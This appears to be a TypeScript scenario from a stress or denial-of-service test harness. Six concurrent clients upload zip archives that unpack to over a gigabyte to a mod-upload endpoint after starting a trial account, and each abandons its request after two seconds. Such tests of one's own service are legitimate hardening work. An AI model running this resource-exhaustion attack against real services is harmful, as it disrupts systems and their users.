import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { makeZip } from '../zips.ts';
import { floodOf, type Attack, type Target } from './attack.ts';

const boundary = 'snow';
const atOnce = 6;
const patienceMs = 2000;

/** A trial is for everyone, so that everyone can send archives. */
export const archives: Attack = {
  name: 'archives',
  does: '6 at once upload archives that unpack to nearly as much as they may, and leave before the answer',
  async prepare(isSmall) {
    const body = formOf(heavyZip(isSmall ? 20 : 1200));
    return async (target) => {
      await target.elsewhere.send('POST', '/api/subscriptions/trial');
      await floodOf(target, atOnce, () => upload(target, body));
    };
  },
};

/** So many megabytes, packed to about a fiftieth. */
function heavyZip(megabytes: number): Uint8Array {
  const file = Buffer.concat(
    Array.from({ length: 20 }, () => Buffer.alloc(1024 ** 2 / 20, randomBytes(1000))),
  );
  return makeZip(Array.from({ length: megabytes }, (_, at) => ({ name: `level-${at}.dat`, bytes: file })));
}

function formOf(zip: Uint8Array): Buffer {
  const part = (head: string) => `--${boundary}\r\nContent-Disposition: form-data; ${head}\r\n\r\n`;
  const words = { name: 'Heavy', description: 'Heavy', platform: 'pc' };
  const texts = Object.entries(words).map(([name, value]) => `${part(`name="${name}"`)}${value}\r\n`);
  const head = Buffer.from(`${texts.join('')}${part('name="file"; filename="heavy.zip"')}`);
  return Buffer.concat([head, zip, Buffer.from(`\r\n--${boundary}--\r\n`)]);
}

/** Sends it whole, waits for a while, and goes. */
async function upload({ elsewhere, time, note }: Target, body: Buffer): Promise<void> {
  const sending = elsewhere.open('POST', '/api/user-mods', {
    'content-type': `multipart/form-data; boundary=${boundary}`,
    'content-length': body.length,
  });
  sending.end(body);
  const answer = once(sending, 'response').then(
    ([response]) => String((response as { statusCode: number }).statusCode),
    () => 'cut off',
  );
  const gone = delay(patienceMs, 'left before the answer', { signal: time }).catch(() => 'time over');
  note(await Promise.race([answer, gone]));
  sending.destroy();
  await delay(50);
}
